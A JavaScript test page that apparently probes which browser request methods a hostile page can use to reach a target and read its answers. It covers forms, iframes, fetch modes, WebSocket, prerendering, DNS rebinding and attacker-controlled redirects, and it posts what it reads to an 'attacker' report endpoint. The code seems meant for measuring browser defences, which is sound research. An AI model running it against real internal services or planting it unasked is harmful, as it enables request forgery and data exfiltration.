// What a page can try. Each technique gets a URL, and returns what it could read of the answer, once the browser has
// done with the request. Those that the browser tells nothing of return at once: the servers know.
const once = (target, ...events) =>
  new Promise(resolve => events.forEach(event => target.addEventListener(event, resolve, { once: true })))
const make = (tag, properties) => Object.assign(document.createElement(tag), properties)
const add = element => document.body.appendChild(element)
const read = async response => (await response).text()
const blind = async done => (await done, '')
const sendForm = async (method, url) => {
  const frame = add(make('iframe', { name: 'frame' + document.forms.length }))
  add(make('form', { method, action: url, target: frame.name })).submit()
  return framed(frame)
}
const framed = async frame => (await once(frame, 'load'), frame.contentDocument?.body.innerText)

const techniques = {
  'fetch GET cors': url => read(fetch(url)),
  'fetch GET no-cors': url => read(fetch(url, { mode: 'no-cors' })),
  'fetch POST cors': url => read(fetch(url, { method: 'POST', body: 'text' })),
  'fetch POST no-cors': url => read(fetch(url, { method: 'POST', mode: 'no-cors', body: 'text' })),
  'fetch preflight': url => read(fetch(url, {
    method: 'PUT', headers: { 'Content-Type': 'application/json', 'X-Custom': 'yes' }, body: '{}',
  })),
  'XMLHttpRequest': async url => {
    const request = new XMLHttpRequest()
    request.open('GET', url)
    request.send()
    await once(request, 'loadend')
    return request.responseText
  },
  'form GET': url => sendForm('get', url),
  'form POST': url => sendForm('post', url),
  'image': url => blind(once(make('img', { src: url }), 'load', 'error')),
  'script': url => blind(once(add(make('script', { src: url })), 'load', 'error')),
  'stylesheet': url => blind(once(add(make('link', { rel: 'stylesheet', href: url })), 'load', 'error')),
  'prefetch': url => blind(once(add(make('link', { rel: 'prefetch', href: url })), 'load', 'error')),
  'iframe': url => framed(add(make('iframe', { src: url }))),
  'WebSocket': url => blind(once(new WebSocket(url.replace(/^http/, 'ws')), 'open', 'close')),
  'EventSource': async url => {
    const source = new EventSource(url)
    await once(source, 'open', 'error')
    source.close() // or it would try again
  },
  'beacon': url => { navigator.sendBeacon(url, 'text') },
  'ping': url => add(make('a', { href: '#', ping: url })).click(),
  'window': url => { open(url) },
  'speculative prefetch': url => speculate('prefetch', url),
  'redirected speculative prefetch': url => speculate('prefetch', location.origin + redirection(url)),
  'prerender': url => speculate('prerender', url),
  'payment method': url => new PaymentRequest(
    [{ supportedMethods: url }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().then(() => ''),
  'fetchLater': url => { fetchLater(url, { activateAfter: 0 }) },
  // Whether the browser still says who began it, after the page's own server has sent it on.
  'redirected image': url => techniques['image'](redirect(url)),
  'redirected form POST': url => techniques['form POST'](redirect(url)),
}

const speculate = (action, url) => {
  add(make('script', { type: 'speculationrules', text: JSON.stringify({ [action]: [{ urls: [url], eagerness: 'immediate' }] }) }))
}
const redirection = url => '/redirect?to=' + encodeURIComponent(url)
const redirect = url => plan.attacker + redirection(url)

const attempt = async ({ technique, url }) => {
  const late = new Promise(resolve => setTimeout(resolve, 15000, { unsettled: true }))
  const tried = (async () => ({ read: await techniques[technique](url) ?? '' }))()
  return Promise.race([tried.catch(error => ({ read: '', error: String(error) })), late])
}

let plan
(async () => {
  plan = await (await fetch('/plan')).json()
  if (plan.rebind) await fetch('/rebind', { method: 'POST' })
  const outcomes = []
  for (const each of plan.attempts) outcomes.push(await attempt(each))
  await fetch(plan.attacker + '/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(outcomes) })
})()
